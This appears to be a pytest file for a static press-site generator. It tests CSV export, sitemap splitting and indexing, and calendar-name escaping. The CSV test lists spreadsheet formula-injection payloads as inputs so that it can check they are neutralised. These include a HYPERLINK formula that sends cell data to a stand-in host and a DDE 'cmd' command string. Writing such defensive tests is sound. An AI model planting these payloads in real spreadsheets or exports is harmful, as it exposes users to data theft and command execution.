"""Files for machines in the hands of others: spreadsheets, search engines, calendars."""

import csv
import io
import json
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from finished_sites import finished
from lxml import etree
from planned_site import planned
from press_room import CLOSED, golden_folders
from site_in_a_string import read_files, release, titled, write_site

from pressroom.engine.pipeline import make_site
from pressroom.model import Phase
from pressroom.pages import urls
from pressroom.pages.sitemaps import sitemap_files
from pressroom.pages.targets import Calendar, CsvTable, DataFile, Sitemap
from pressroom.problems import Location
from pressroom.render.calendars import calendar_bytes, moments_calendar
from pressroom.render.serializers import csv_bytes, sitemap_bytes

# --- tables -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ('=HYPERLINK("https://ond.example/?"&A1;"klicka")', '\'=HYPERLINK("https://ond.example/?"&A1;"klicka")'),
        ("+46 8 12 34 56", "'+46 8 12 34 56"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("＝1+1", "'＝1+1"),
        ("Stöd;=1+1", "Stöd;'=1+1"),
        ("Stöd; @SUM(1)", "Stöd;' @SUM(1)"),
        ("-5", "-5"),
        ("+4,5", "+4,5"),
        ("-0.25", "-0.25"),
        ("– Det är bra, säger Ada.", "– Det är bra, säger Ada."),
        ("a=b; c-d, e@f.example", "a=b; c-d, e@f.example"),
        ("", ""),
    ],
)
def test_no_cell_begins_a_formula(text: str, written: str) -> None:
    content = csv_bytes(CsvTable(header=("a",), rows=((text,),)))
    assert [["a"], [written]] == [row or [""] for row in csv.reader(io.StringIO(content.decode(), newline=""))]


def test_a_formula_of_a_text_is_harmless_in_tables_and_as_it_is_in_json(tmp_path: Path) -> None:
    title = "=1+1 blir 2"
    content = write_site(tmp_path, {"press/2021/a.md": release().replace("Rubrik", f'"{title}"')})
    folders = golden_folders(tmp_path / "output")
    files = {file.path: file.content for file in make_site(replace(folders, content=content), CLOSED).files}
    table, record = files["data/releases.csv"], files["data/releases.json"]
    assert isinstance(table, bytes)
    assert isinstance(record, bytes)
    (row,) = csv.DictReader(io.StringIO(table.decode(), newline=""))
    assert (f"'{title}", title) == (row["title"], json.loads(record)["releases"][0]["title"])


# --- the sitemap --------------------------------------------------------------------------------------------------

LOC = "{http://www.sitemaps.org/schemas/sitemap/0.9}loc"


def test_a_long_sitemap_is_split(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folders = golden_folders(tmp_path / "output")

    def sitemaps() -> dict[str, list[str]]:
        site = make_site(folders, CLOSED)
        assert [] == [problem for problem in site.problems if problem.code.startswith("site-")]
        contents = {file.path: file.content for file in site.files if file.path.startswith("sitemap")}
        return {
            path: [found.text or "" for found in etree.fromstring(content).iter(LOC)]
            for path, content in contents.items()
            if isinstance(content, bytes)
        }

    (listed,) = sitemaps().values()
    size = len(listed) // 2
    monkeypatch.setattr(urls, "SITEMAP_SIZE", size)
    split = sitemaps()
    base = "https://arkiv.example/exempelmyndigheten/"
    assert [f"{base}sitemap-{number}.xml" for number in (1, 2, 3)][: len(split) - 1] == split.pop("sitemap.xml")
    assert listed == [address for path in sorted(split) for address in split[path]]
    assert size == max(map(len, split.values()))


def test_the_sitemap_has_the_day_of_a_change_where_it_is_known(tmp_path: Path) -> None:
    files = {
        "press/2021/a.md": release("updated: 2023-02-03", "corrections: [{date: 2023-05-01, text: Ny siffra.}]"),
        "press/2021/b.md": release("updated: 2023-02-03"),
        "press/2021/c.md": release("updated: 2023"),
        "press/2021/d.md": release(),
        "pages/om-oss.md": titled("updated: 2023-01-01"),
    }
    site, _ = read_files(tmp_path, files, CLOSED)
    (content,) = (each.content for each in planned(site)[0] if isinstance(each, DataFile) and each.path == urls.SITEMAP)
    assert isinstance(content, Sitemap)
    changed = {path.rpartition("/")[2]: day for path, day in content.entries if day}
    assert {"a.html": "2023-05-01", "b.html": "2023-02-03", "om-oss.html": "2023-01-01"} == changed


def test_only_those_who_held_a_public_office_are_shown_by_search_engines() -> None:
    site = finished("golden")
    public = {person.id for person in site.site.people if person.is_public_figure}
    assert {"ada-exempelsson", "oden-aberg"} == public < {person.id for person in site.site.people}
    sitemap = site.files["sitemap.xml"].decode()
    for path, content in site.ending(".html"):
        name = path.removeprefix("personer/").removesuffix(".html")
        if path.startswith("personer/") and name != "index":
            is_public = name.partition("-sida-")[0] in public
            assert (is_public, not is_public) == (path in sitemap, b'<meta name="robots" content="noindex">' in content)


def test_no_sitemap_has_more_addresses_than_the_protocol_allows() -> None:
    paths = tuple(f"press/2021/a{number}.html" for number in range(50_001))
    site: Any = SimpleNamespace(
        listed=paths, changed_days={}, about=SimpleNamespace(at=Location(path="a"), url="https://a.example/")
    )
    sizes = {}
    for recipe in sitemap_files(site):
        if not recipe.path.startswith("sitemap"):
            continue
        target = recipe.plan(site, recipe, *recipe.arguments)
        if isinstance(target, DataFile) and isinstance(target.content, Sitemap):
            sizes[recipe.path] = sitemap_bytes(target.content).count(b"<loc>")
    assert {"sitemap.xml": 2, "sitemap-1.xml": 50_000, "sitemap-2.xml": 1} == sizes


# --- calendars ----------------------------------------------------------------------------------------------------


def test_the_name_of_a_calendar_is_escaped() -> None:
    """RFC 5545, 3.3.11."""
    name = "Besök i A, B; C\\D\nRad"
    events = Calendar(name=name, language="sv", url="https://a.example/", phase=Phase.CLOSED, events=())
    for content in (calendar_bytes(events), moments_calendar(name, "https://a.example/", [], CLOSED)):
        assert "\r\nX-WR-CALNAME:Besök i A\\, B\\; C\\\\D\\nRad\r\n" in content.decode()
